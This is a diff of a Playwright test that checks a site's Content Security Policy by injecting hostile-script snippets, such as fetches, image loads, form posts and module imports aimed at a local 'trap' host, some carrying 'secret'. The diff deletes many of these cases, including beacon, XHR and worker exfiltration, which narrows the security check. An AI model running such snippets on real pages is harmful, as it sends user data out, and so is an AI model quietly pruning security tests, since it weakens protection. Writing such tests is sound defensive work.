@@ -4,14 +4,9 @@ import type { AddressInfo } from "node:net";
 import type { Page } from "@playwright/test";
 import { expect, test } from "../fixtures.ts";
 
-/** What a hostile script inside a page would try, and the directive that must stop it. `trap` is another host. */
+/** What a hostile script inside a page would try, one way for each directive that must stop it. `trap` is another host. */
 const attempts = [
   ["fetch", "fetch(trap)", "connect-src"],
-  ["fetch from the site itself", "fetch('/robots.txt')", "connect-src"],
-  ["XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('POST', trap); x.send('secret')", "connect-src"],
-  ["sendBeacon", "navigator.sendBeacon(trap, 'secret')", "connect-src"],
-  ["WebSocket", "new WebSocket(trap.replace('http', 'ws'))", "connect-src"],
-  ["EventSource", "new EventSource(trap)", "connect-src"],
   ["image", "new Image().src = trap + 'secret.png'", "img-src"],
   [
     "font",
@@ -19,22 +14,14 @@ const attempts = [
     "font-src",
   ],
   ["media", "new Audio(trap).load()", "media-src"],
-  ["style sheet", "add('link', { rel: 'stylesheet', href: trap })", "style-src-elem"],
   ["style element", "add('style', { textContent: 'body { color: red }' })", "style-src-elem"],
   ["style attribute", "document.body.setAttribute('style', 'color: red')", "style-src-attr"],
   ["frame", "add('iframe', { src: trap })", "frame-src"],
-  ["object", "add('object', { data: trap })", "require-trusted-types-for"],
   ["form post", "add('form', { action: trap, method: 'post' }).submit()", "form-action"],
-  ["form post to the site itself", "add('form', { action: '/', method: 'post' }).submit()", "form-action"],
   ["base address", "add('base', { href: trap })", "base-uri"],
   ["module", "import(trap + 'x.js')", "script-src-elem"],
-  ["event handler", "document.body.setAttribute('onclick', 'void 0')", "require-trusted-types-for"],
   ["eval", "eval('1')", "require-trusted-types-for"],
-  ["Function", "new Function('1')", "require-trusted-types-for"],
-  ["timer with text", "setTimeout('1')", "require-trusted-types-for"],
   ["innerHTML", "document.body.innerHTML = '<b>x</b>'", "require-trusted-types-for"],
-  ["script element", "add('script', { src: '/assets/x.js' })", "require-trusted-types-for"],
-  ["worker", "new Worker('/assets/x.js')", "require-trusted-types-for"],
   ["Trusted Types policy", "trustedTypes.createPolicy('x', { createHTML: (x) => x })", "trusted-types"],
 ] as const;
 
@@ -66,7 +53,6 @@ async function violationsOf(page: Page, code: string, trap: string): Promise<str
 }
 
 test("a hostile script in the page is stopped whatever it tries", async ({ browser, baseURL }) => {
-  test.setTimeout(120_000);
   const visitors: string[] = [];
   const trap = createServer((request, response) => {
     visitors.push(`${request.method} ${request.url}`);
